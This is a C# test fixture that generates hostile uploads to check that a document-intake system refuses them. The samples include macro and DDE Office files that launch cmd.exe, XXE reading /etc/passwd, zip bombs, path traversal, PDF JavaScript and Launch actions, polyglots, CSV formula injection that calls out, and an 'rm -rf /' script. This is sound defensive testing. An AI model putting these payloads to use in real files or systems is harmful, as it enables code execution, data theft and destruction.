using System.Text;
using Gongkai.Documents.Intake;
using Gongkai.Documents.Tests.Corpus;
using static Gongkai.Documents.Tests.Intake.Wares;

namespace Gongkai.Documents.Tests.Intake;

/// <summary>A file meant to do harm to whoever stores, opens or serves it.</summary>
/// <param name="Name">What is wrong with it.</param>
public sealed record HostileUpload(string Name, string File, Func<byte[]> Make, Refusal Refusal = Refusal.Unsafe)
{
    const string Macro = "application/vnd.ms-word.document.macroEnabled.main+xml";
    static readonly byte[] Program = [.. "MZ"u8, .. new byte[300]];

    public static IReadOnlyList<HostileUpload> All { get; } = [.. Office, .. Packed_, .. Pdfs, .. Strangers, .. Twofold, .. TooMuch];

    static IEnumerable<HostileUpload> Office =>
    [
        new("a document with macros", "a.docm", () => Package.Of(Types("word/document.xml", Macro), Root("word/document.xml"), ("word/document.xml", "<d/>"))),
        new("a document with macros that calls itself one without", "a.docx", () => Docx(more: ("word/vbaProject.bin", "x"))),
        new("a workbook with macros", "a.xlsm", () => Package.Of(Types("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), Root("xl/workbook.xml"), ("xl/workbook.xml", "<d/>"))),
        new("a workbook with a sheet of old macros", "a.xlsx", () => Xlsx(links: Link("xlMacrosheet", "macrosheets/sheet1.xml"))),
        new("a document with a control", "a.docx", () => Docx(links: Link("control", "activeX/activeX1.xml"))),
        new("a field that starts a program", "a.docx", () => Docx(Field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""))),
        new("the same in pieces", "a.docx", () => Docx("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>D</w:instrText></w:r></w:p><w:p><w:r><w:instrText>DEAU</w:instrText></w:r><w:r><w:instrText>TO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")),
        new("a simple field that starts a program", "a.docx", () => Docx("<w:p><w:fldSimple w:instr=\" DDE cmd \"/></w:p>")),
        new("the same in a part that calls itself something else", "a.docx", () => Package.Of(Types("word/document.dat", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"), Root("word/document.dat"),
            ("word/document.dat", $"<w:document xmlns:w=\"{Word}\"><w:body>{Field("DDE cmd")}</w:body></w:document>"))),
        new("a picture from outside", "a.docx", () => Docx(Field("INCLUDEPICTURE http://example.invalid/a.png"))),
        new("a template from outside", "a.docx", () => Docx(more: ("word/_rels/settings.xml.rels", $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{Link("attachedTemplate", "http://example.invalid/a.dotm", true)}</Relationships>"))),
        new("a picture by a link to outside", "a.docx", () => Docx(links: Link("image", "http://example.invalid/a.png", true))),
        new("a link into the network of the reader", "a.docx", () => Docx(links: Link("hyperlink", "\\\\\\\\example.invalid\\\\share", true))),
        new("a link that is a script", "a.docx", () => Docx(links: Link("hyperlink", "javascript:alert(1)", true))),
        new("another file's text", "a.docx", () => Docx("<w:altChunk r:id=\"x9\"/>")),
        new("an embedded object", "a.docx", () => Docx(links: Link("oleObject", "embeddings/oleObject1.bin"))),
        new("an embedded program", "a.docx", () => WithRaw("word/embeddings/a.bin", Program)),
        new("a program as a picture", "a.docx", () => WithRaw("word/media/a.png", Program)),
        new("a document with a declaration of types", "a.docx", () => Package.Of([.. DocxParts("")[..2], ("word/document.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>&x;</d>")])),
        new("entities within entities", "a.docx", () => Package.Of([.. DocxParts("")[..2], ("word/document.xml", "<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">]><d>&b;</d>")])),
        new("tables five thousand deep", "a.docx", () => Docx(string.Concat(Enumerable.Repeat("<w:tbl><w:tr><w:tc>", 2000)) + string.Concat(Enumerable.Repeat("</w:tc></w:tr></w:tbl>", 2000))), Refusal.Damaged),
        new("a formula that starts a program", "a.xlsx", () => Xlsx("<row r=\"1\"><c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>0</v></c></row>")),
        new("a formula that fetches", "a.xlsx", () => Xlsx("<row r=\"1\"><c r=\"A1\"><f>_xlfn.WEBSERVICE(\"http://example.invalid/\"&amp;B1)</f></c></row>")),
        new("a formula into another workbook", "a.xlsx", () => Xlsx("<row r=\"1\"><c r=\"A1\"><f>[1]Sheet1!A1</f></c></row>")),
        new("another workbook", "a.xlsx", () => Xlsx(links: Link("externalLink", "externalLinks/externalLink1.xml"))),
        new("a connection to a database", "a.xlsx", () => Xlsx(links: Link("connections", "connections.xml"))),
        new("a slide that starts a program", "a.pptx", () => Package.Of(Types("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"), Root("ppt/presentation.xml"), ("ppt/presentation.xml", "<p/>"), ("ppt/slides/slide1.xml", "<p><a action=\"ppaction://program\"/></p>"))),
        new("a format document that asks for a file", "a.ofd", () => Ofd(more: Ofd("Doc_0/x.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>&x;</d>"))),
        new("a locked document", "a.docx", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[1016], .. Encoding.Unicode.GetBytes("EncryptedPackage")], Refusal.Locked),
        new("a document of Word 97", "a.docx", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[2000]], Refusal.Kind),
    ];

    static IEnumerable<HostileUpload> Packed_ =>
    [
        new("a gigabyte of blanks", "a.docx", () => RawZip.With(DocxParts(""), "word/a.xml", 64, null)),
        new("a gigabyte that says it is small", "a.docx", () => RawZip.With(DocxParts(""), "word/a.xml", 64, 1000)),
        new("two thousand entries over the same bytes", "a.zip", () => RawZip.Overlapping(2000).ToArray()),
        new("an entry that climbs out", "a.zip", () => Package.Of(("../../etc/cron.d/a.txt", "x"))),
        new("an entry from the root", "a.zip", () => Package.Of(("/etc/cron.d/a.txt", "x"))),
        new("an entry of a Windows disk", "a.zip", () => Package.Of(("c:\\windows\\a.txt", "x"))),
        new("two entries of one name", "a.zip", () => Package.Of(("a.txt", "x"), ("A.TXT", "y"))),
        new("a program in a ZIP file", "a.zip", () => Zip(("report.pdf", Program))),
        new("a ZIP file in a ZIP file", "a.zip", () => Zip(("b.zip", Package.Of(("a.txt", "x"))))),
        new("a script in a ZIP file", "a.zip", () => Zip(("run.bat", "del *"u8.ToArray())), Refusal.Kind),
        new("a locked ZIP file", "a.zip", () => Flip(Package.Of(("a.txt", "x")), [.. "PK\x01\x02"u8], 8, 1), Refusal.Locked),
        new("two names for one entry", "a.zip", () => Flip(Package.Of(("a.txt", "x")), [.. "PK\x03\x04"u8], 30, (byte)'b')),
        new("a link out of the folder", "a.zip", () => Flip(Package.Of(("a.txt", "x")), [.. "PK\x01\x02"u8], 41, 0xA1)),
    ];

    static IEnumerable<HostileUpload> Pdfs =>
    [
        new("a PDF with a script", "a.pdf", () => Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
        new("a script whose name is written otherwise", "a.pdf", () => Pdf("/OpenAction << /S /#4aava#53cript /J#53 (app.alert(1)) >>")),
        new("a script in a packed object", "a.pdf", () => Pdf(more: Packed("/Type /ObjStm /N 1 /First 4", "9 0 << /S /JavaScript /JS (x) >>"))),
        new("a script in an object packed twice", "a.pdf", () => Pdf(more: Twice("/Type /ObjStm /N 1 /First 4", "9 0 << /S /JavaScript >>"))),
        new("a script in a packed object whose packing is told elsewhere", "a.pdf", () => Pdf(more: [Packed("/Type /ObjStm /N 1 /First 4", "9 0 << /S /JavaScript >>").Replace("/Filter /FlateDecode", "/Filter 6 0 R"), "/FlateDecode"])),
        new("a script in a packed object whose places are told elsewhere", "a.pdf", () => Pdf(more: [Packed("/Type /ObjStm /N 6 0 R /First 7 0 R", "9 0 (x) 0 << /S /JavaScript >>"), "1", "4"])),
        new("a script in a packed object behind an open text", "a.pdf", () => Pdf(more: Packed("/Type /ObjStm /N 1 /First 4", "9 5 (( (<< /S /JavaScript >>"))),
        new("a script that no table leads to", "a.pdf", () => [.. Pdf(), .. "\n77 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n"u8]),
        new("a script in a text that seems to be open", "a.pdf", () => Pdf(more: "(open \n9 0 obj << /S /Launch /F (cmd.exe) >> endobj")),
        new("a PDF that starts a program", "a.pdf", () => Pdf("/OpenAction << /S /Launch /F (cmd.exe) >>")),
        new("a PDF with a file within", "a.pdf", () => Pdf("/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", more: Stream("/Type /EmbeddedFile", "MZ"))),
        new("a form of the old kind", "a.pdf", () => Pdf("/AcroForm << /XFA 5 0 R >>", more: Stream("", "<x/>"))),
        new("a form that sends itself away", "a.pdf", () => Pdf("/AA << /O << /S /SubmitForm /F (http://example.invalid) >> >>")),
        new("a locked PDF", "a.pdf", () => Pdf(trailer: "/Encrypt 5 0 R ", more: "<< /Filter /Standard /V 2 >>"), Refusal.Locked),
        new("a gigabyte of drawing", "a.pdf", () => Pdf(more: Packed("", new string(' ', 500_000_000)))),
        new("texts that never close", "a.pdf", () => Encoding.Latin1.GetBytes("%PDF-1.7\n" + string.Concat(Enumerable.Repeat("1 0 obj (", 200_000))), Refusal.Damaged),
        new("the first line of a PDF", "a.pdf", () => "%PDF-1.7\n"u8.ToArray(), Refusal.Damaged),
    ];

    static IEnumerable<HostileUpload> Strangers =>
    [
        new("a program as a PDF", "a.pdf", () => Program),
        new("a program of Linux as a picture", "a.png", () => [0x7F, .. "ELF"u8, .. new byte[100]]),
        new("a script with a picture's name", "a.jpg", () => "#!/bin/sh\nrm -rf /\n"u8.ToArray()),
        new("a link to a program", "a.txt", () => [0x4C, 0, 0, 0, 1, 0x14, 2, 0, .. new byte[80]]),
        new("a page as text", "a.txt", () => "<html><script>alert(1)</script></html>"u8.ToArray()),
        new("a page behind blanks", "a.txt", () => Encoding.UTF8.GetBytes(new string(' ', 500) + "<SCRIPT src=//example.invalid></SCRIPT>")),
        new("a page in another encoding", "a.txt", () => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><script>alert(1)</script>")]),
        new("a picture that is a page", "a.svg", () => "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray(), Refusal.Kind),
        new("a table that starts a program", "a.csv", () => "名称,数\n=cmd|'/C calc'!A0,1\n"u8.ToArray()),
        new("a table that sends itself away", "a.csv", () => "名称,数\n=HYPERLINK(\"http://example.invalid/\"&A1),1\n"u8.ToArray()),
        new("rich text", "a.txt", () => "{\\rtf1 hello}"u8.ToArray(), Refusal.Kind),
        new("noise", "a.txt", () => [.. Enumerable.Range(0, 5000).Select(i => (byte)(i * 7919 >> 3))], Refusal.Kind),
        new("nothing", "a.pdf", () => [], Refusal.Empty),
    ];

    static IEnumerable<HostileUpload> Twofold =>
    [
        new("a picture that is a ZIP file too", "a.png", () => [.. Png(), .. Package.Of(("a.txt", "x"))]),
        new("a picture that is a page too", "a.gif", () => [.. Gif(), .. "<html><script>alert(1)</script>"u8]),
        new("a picture that is a PDF too", "a.jpg", () => Jpeg(4, 4, (0xFE, Pdf()[..400]))),
        new("a picture with a page in its comment", "a.jpg", () => Jpeg(4, 4, (0xFE, "<html><script>alert(1)</script>"u8.ToArray()))),
        new("a PDF that is a ZIP file too", "a.pdf", () => [.. Pdf(), .. Package.Of(("a.txt", "x"))]),
        new("a ZIP file behind a picture's head", "a.docx", () => [.. Gif(), .. Docx()]),
        new("a picture with a program behind it", "a.png", () => [.. Png(), .. Program]),
    ];

    static IEnumerable<HostileUpload> TooMuch =>
    [
        new("a picture of 2,500 million pixels", "a.png", () => Png(50_000, 50_000)),
        new("a photograph of 4,000 million pixels", "a.jpg", () => Jpeg(65_500, 65_500)),
        new("a picture of no pixels", "a.png", () => Png(0, 5), Refusal.Damaged),
        new("half a photograph", "a.jpg", () => Jpeg()[..100], Refusal.Damaged),
        new("half a picture", "a.png", () => Png()[..50], Refusal.Damaged),
        new("twenty-one megabytes", "a.txt", () => [.. Enumerable.Repeat((byte)'a', 21 << 20)], Refusal.TooLarge),
    ];

    static string Field(string instruction) => $"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>{Package.Escape(instruction)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    static string Twice(string dictionary, string content)
    {
        var once = Packed("", content);
        var body = once[(once.IndexOf("stream\n", StringComparison.Ordinal) + 7)..once.LastIndexOf("\nendstream", StringComparison.Ordinal)];
        return Packed(dictionary, body).Replace("/Filter /FlateDecode", "/Filter [/FlateDecode /Fl]");
    }

    static byte[] WithRaw(string name, byte[] bytes) => Zip([.. DocxParts("").Select(part => (part.Item1, Encoding.UTF8.GetBytes(part.Item2))), (name, bytes)]);

    public static byte[] Zip(params (string Name, byte[] Bytes)[] parts)
    {
        using var to = new MemoryStream();
        using (var zip = new System.IO.Compression.ZipArchive(to, System.IO.Compression.ZipArchiveMode.Create, true))
            foreach (var (name, bytes) in parts)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(bytes);
            }
        return to.ToArray();
    }

    static byte[] Flip(byte[] bytes, byte[] mark, int after, byte value)
    {
        bytes[bytes.AsSpan().IndexOf(mark) + after] = value;
        return bytes;
    }
}
